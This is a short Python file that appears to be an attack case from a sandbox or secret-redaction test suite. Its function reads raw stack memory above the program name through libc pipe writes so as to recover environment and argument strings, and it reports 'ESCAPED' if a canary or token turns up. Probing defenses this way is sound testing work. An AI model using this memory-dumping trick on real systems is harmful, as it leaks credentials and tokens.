"""Read the process's arguments and environment from above the stack, where the kernel put them."""

ATTACK = {"stopped_by": ["values"]}
import ctypes
import os

PAGE = 4096


def target(x):
    libc = ctypes.CDLL(None)
    libc.write.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t)
    read_end, write_end = os.pipe()
    # It points to the name of the program: the first of the texts that the kernel put there.
    place = ctypes.c_void_p.in_dll(libc, "program_invocation_name").value
    text = " ".join(f"{name}={value}" for name, value in os.environ.items()).encode()
    # One page after another, until there is none: the end of the stack.
    while True:
        count = libc.write(write_end, place, PAGE - place % PAGE)
        if count <= 0:
            break
        text += os.read(read_end, count)
        place += count
    for word in (WORLD["canary"], WORLD["token_name"]):
        where = text.find(word.encode())
        if where >= 0:
            print("ESCAPED:", text[where : where + 60])
    raise LookupError(f"no token in {len(text)} bytes")
